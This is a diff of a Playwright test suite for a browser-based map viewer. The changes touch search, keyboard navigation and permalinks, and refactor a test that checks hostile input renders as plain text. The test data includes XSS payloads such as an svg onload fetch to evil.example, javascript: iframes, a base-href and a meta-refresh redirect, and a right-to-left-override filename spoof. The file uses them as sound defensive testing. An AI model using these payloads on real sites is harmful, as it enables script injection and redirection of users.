@@ -80,8 +80,8 @@ def walk(tab: OpenMap, world: dict, check) -> None:
     tab.until("n => knowmap.shown() === n", len({*title_hits, *texts}), seconds=30)
     assert page.locator("#hits li").count() == min(60, len({*title_hits, *texts}))
     check("search")
-    page.fill("#search", "first lines of article 17")
-    hits = sum("article 17" in text for text in world["snippets"]) + 0
+    page.fill("#search", "first lines of article 17")  # every word, anywhere
+    hits = sum("article" in text and "17" in text for text in world["snippets"])
     tab.until("n => knowmap.shown() === n", hits, seconds=30)
     assert re.search(rf"{hits:,} texts? found", page.inner_text("#status"))
     assert page.locator("#hits mark").first.inner_text().lower() == "first"
@@ -170,6 +170,7 @@ def test_every_action_with_a_quarter_of_a_million_points(browser, big, setting):
 def test_permalink_leads_to_the_same_view(browser, map_file, world):
     with opened(browser, map_file) as tab:
         tab.page.fill("#search", "article 1")
+        tab.page.keyboard.press("Escape")  # the list of hits would lie over the card
         tab.page.select_option("#color-by", label="Length")
         tab.page.get_by_label("Length, lowest value").fill("1000")
         tab.page.keyboard.press("Enter")
@@ -192,7 +193,7 @@ def test_permalink_leads_to_the_same_view(browser, map_file, world):
         assert [re.sub(r"\s*×$", "", chip) for chip in chips] == ["alpha", "No Kind", "Length 1000–4999"]
     with opened(browser, map_file, hash="#region.1=Country%205") as tab:
         assert tab.page.locator("#panel h2").inner_text() == "Country 5"
-    hostile = "#view=NaN,1e999,x&color=%3Cimg%3E&is.Label=%3Cscript%3E&in.Length=a..b&article=%23-1&region.0=x&region.9=y"
+    hostile = "#view=NaN,1e999,x&color=%3Cimg%3E&is.Label=%3Cscript%3E&in.Length=a..b&article=%23-1&region.0=x"
     with opened(browser, map_file, hash=hostile) as tab:
         assert tab.evaluate("knowmap.shown()") == len(world["x"])
         assert tab.page.locator("#panel").is_hidden()
@@ -275,6 +276,7 @@ def test_by_keyboard_alone(tab_by_keys, world):
     page.keyboard.press("ArrowRight")
     page.keyboard.press("ArrowRight")
     assert tab.evaluate("document.activeElement.id") == "tab-regions"
+    page.keyboard.press("Tab")  # the button that closes the card
     page.keyboard.press("Tab")
     page.keyboard.press("Enter")
     assert page.locator("#regions .outline .outline").first.is_visible()
@@ -290,8 +292,8 @@ def attacks(n: int) -> list[str]:
     """Markup, script, entities, bidirectional controls, invisible and broken characters, very long texts."""
     rng = random.Random(5)
     seeds = [
-        HOSTILE, "<svg/onload=fetch('//evil.example')>", "\"><iframe src=javascript:alert(1)>", "--><!--", "<!--<script>",
-        "]]></script>", "{{title}}{{data}}", "${alert(1)}", "`;alert(1)//", "\\u003cscript\\u003e", "&lt;b&gt;&#x3c;",
+        HOSTILE, "<svg/onload=fetch('//evil.example')>", "\"><iframe src=javascript:alert(1)>", "--><!--",
+        "<!--<script>", "]]></script>", "{{title}}{{data}}", "${alert(1)}", "`;alert(1)//", "\\u003cscript\\u003e", "&lt;b&gt;&#x3c;",
         "<a href='javascript:alert(1)'>x</a>", "<style>*{display:none}</style>", "<base href=//evil.example>",
         "<meta http-equiv=refresh content='0;url=//evil.example'>", "\u202egnp.exe", "\u2066\u202ba\u2069", "a\u2028b",
         "\x00\x01\x1b[31m", "\ud800", "\udfff\ud83d", "e" + "\u0301" * 300, "\u200b\ufeff", "العربية‏ <b>", "𝓕𝓪𝓷𝓬𝔂<b>",
@@ -310,7 +312,7 @@ def test_a_thousand_attacks_are_shown_as_text(browser, tmp_path):
     angle = np.linspace(0, 60, n)
     world = {
         "x": angle * np.cos(angle), "y": angle * np.sin(angle), "titles": evil, "snippets": evil[::-1],
-        "urls": [f"{scheme}{text[:50]}" for scheme, text in zip(["javascript:", "data:", "", "https://a/"] * 250, evil, strict=True)],
+        "urls": [("javascript:", "data:", "", "https://a/")[i % 4] + text[:50] for i, text in enumerate(evil)],
         "ids": evil, "name": evil[0], "description": evil[2],
         "columns": [Column(evil[1], "category", np.arange(n), evil, role="label"), Column(evil[3], "number", angle)],
         "levels": [Level(evil[4], np.arange(n) // 10, [
@@ -321,14 +323,16 @@ def test_a_thousand_attacks_are_shown_as_text(browser, tmp_path):
     file = render_html(tmp_path / "evil.html", **world)
     assert file.stat().st_size < 6_000_000, "a text of 100 KB does not go into the page whole"
     with opened(browser, file) as tab:
-        before = tab.evaluate("document.querySelectorAll('script, iframe, img, object, embed, base, style').length")
+        foreign = "document.querySelectorAll('script, iframe, img, object, embed, base, style').length"
+        before = tab.evaluate(foreign)
         tab.until("knowmap.open(0), !!document.querySelector('#panel .snippet')")
         shown = tab.evaluate(
             """() => Array.from({length: knowmap.n}, (_, i) => {
                  knowmap.open(i);
                  const panel = document.querySelector('#panel-body');
                  const tags = new Set([...panel.querySelectorAll('*')].map(e => e.localName));
-                 const handlers = [...panel.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(a => a.startsWith('on'));
+                 const names = [...panel.querySelectorAll('*')].flatMap(e => e.getAttributeNames());
+                 const handlers = names.filter(a => a.startsWith('on'));
                  return {title: panel.querySelector('h2').textContent, tags: [...tags], handlers,
                          links: [...panel.querySelectorAll('a')].map(a => a.protocol)};
                })"""
@@ -352,7 +356,7 @@ def test_a_thousand_attacks_are_shown_as_text(browser, tmp_path):
         tab.page.fill("#search", "<script")
         tab.until("document.querySelector('#hits').childElementCount > 0")
         tab.settle()
-        assert tab.evaluate("document.querySelectorAll('script, iframe, img, object, embed, base, style').length") == before
+        assert tab.evaluate(foreign) == before
 
 
 def test_shows_itself_in_a_notebook(browser, world, tmp_path):
